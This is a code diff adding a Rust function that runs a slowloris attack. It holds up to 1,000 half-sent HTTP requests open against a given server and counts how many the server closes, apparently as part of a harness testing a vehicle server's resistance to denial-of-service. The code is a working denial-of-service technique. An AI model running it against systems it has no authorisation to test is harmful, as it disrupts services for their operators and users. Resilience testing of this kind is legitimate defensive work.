@@ -159,3 +159,34 @@ pub async fn retained_flood(host: &str, port: u16, hold: Duration) -> AttackFigu
     }
     figures
 }
+
+/// Connections a slowloris opens at most, and how fast.
+const SLOWLORIS_MAX: usize = 1000;
+const SLOWLORIS_EVERY: Duration = Duration::from_millis(5);
+
+/// Connections to the HTTP server at `host:port` that send half a request's head and then
+/// nothing, opened for `hold` (at most [`SLOWLORIS_MAX`]); how many the server had closed
+/// by the end.
+pub async fn slowloris(host: &str, port: u16, hold: Duration) -> AttackFigures {
+    let until = Instant::now() + hold;
+    let mut open = Vec::new();
+    let mut figures = AttackFigures::default();
+    while Instant::now() < until && open.len() < SLOWLORIS_MAX {
+        figures.attempts += 1;
+        match TcpStream::connect((host, port)).await {
+            Ok(mut s) => {
+                let _ = s.write_all(b"GET / HTTP/1.1\r\nHost: vehicle\r\n").await;
+                open.push(s);
+            }
+            Err(_) => figures.refused_or_cut += 1,
+        }
+        tokio::time::sleep(SLOWLORIS_EVERY).await;
+    }
+    tokio::time::sleep_until(until.into()).await;
+    for mut s in open {
+        if closed_within(&mut s, Duration::from_millis(1)).await {
+            figures.refused_or_cut += 1;
+        }
+    }
+    figures
+}
